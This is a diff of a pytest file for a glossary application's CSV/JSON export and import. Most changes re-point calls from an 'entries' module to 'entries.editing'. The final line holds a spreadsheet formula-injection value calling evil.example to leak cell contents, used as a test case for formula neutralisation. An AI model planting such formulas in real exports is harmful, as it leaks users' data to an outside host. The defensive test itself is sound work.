@@ -8,7 +8,8 @@ import pytest
 from rdflib import RDF, Graph, Literal, URIRef
 from rdflib.namespace import SKOS
 
-from glossary import entries, exports, partnerships
+from glossary import partnerships
+from glossary.entries import editing, exports
 from glossary.errors import NotFound
 
 ENTRIES = [
@@ -23,12 +24,12 @@ ENTRIES = [
 @pytest.fixture
 def glossary(db, world):
     for data in ENTRIES:
-        entries.create_entry(db, world.facilitator_id, world.partnership_id, data)
+        editing.create_entry(db, world.facilitator_id, world.partnership_id, data)
     return world
 
 
 def records(db, partnership_id):
-    return [exports.entry_record(e) for e in entries.entries_of(db, partnership_id)]
+    return [exports.entry_record(e) for e in editing.entries_of(db, partnership_id)]
 
 
 @pytest.mark.parametrize("fmt", ["csv", "json"])
@@ -37,14 +38,14 @@ def test_export_then_import_gives_back_the_same_entries(db, glossary, fmt):
     empty = partnerships.create_partnership(db, glossary.facilitator_id, "Regio West", ["A"])
     preview = exports.preview_import(db, glossary.facilitator_id, empty.id, exported.content.encode(), fmt)
     assert preview.ok and preview.count("create") == 3
-    assert entries.entries_of(db, empty.id) == []  # the dry run wrote nothing
+    assert editing.entries_of(db, empty.id) == []  # the dry run wrote nothing
     exports.apply_import(db, glossary.facilitator_id, empty.id, exported.content, fmt)
     assert records(db, empty.id) == records(db, glossary.partnership_id)
-    assert {e.current.source for e in entries.entries_of(db, empty.id)} == {"import"}
+    assert {e.current.source for e in editing.entries_of(db, empty.id)} == {"import"}
     # Importing the same file again changes nothing.
     again = exports.apply_import(db, glossary.facilitator_id, empty.id, exported.content, fmt)
     assert again.count("unchanged") == 3
-    assert {e.version for e in entries.entries_of(db, empty.id)} == {1}
+    assert {e.version for e in editing.entries_of(db, empty.id)} == {1}
 
 
 def test_an_import_with_errors_lists_them_per_row_and_writes_nothing(db, glossary):
@@ -67,8 +68,8 @@ def test_an_import_with_errors_lists_them_per_row_and_writes_nothing(db, glossar
         exports.apply_import(db, glossary.facilitator_id, glossary.partnership_id, content, "csv")
     assert len([r for r in refused.value.preview.rows if r.errors]) == 3
     db.expire_all()
-    assert entries.find_entry(db, glossary.partnership_id, "nieuw") is None
-    assert entries.find_entry(db, glossary.partnership_id, "regie").current.definition == "Wie de leiding neemt."
+    assert editing.find_entry(db, glossary.partnership_id, "nieuw") is None
+    assert editing.find_entry(db, glossary.partnership_id, "regie").current.definition == "Wie de leiding neemt."
 
 
 def test_an_unreadable_file_is_reported_as_a_whole(db, glossary):
@@ -132,7 +133,7 @@ def test_the_csv_export_never_starts_a_cell_with_a_formula_and_imports_back_unch
     import io
 
     for data in FORMULAS:
-        entries.create_entry(db, world.facilitator_id, world.partnership_id, data)
+        editing.create_entry(db, world.facilitator_id, world.partnership_id, data)
     exported = exports.export(db, world.partnership_id, "csv").content
 
     cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
@@ -143,4 +144,4 @@ def test_the_csv_export_never_starts_a_cell_with_a_formula_and_imports_back_unch
     other = partnerships.create_partnership(db, world.facilitator_id, "Regio West", ["A"])
     exports.apply_import(db, world.facilitator_id, other.id, exported, "csv")
     assert records(db, other.id) == records(db, world.partnership_id)
-    assert entries.find_entry(db, other.id, "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")") is not None
+    assert editing.find_entry(db, other.id, "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")") is not None
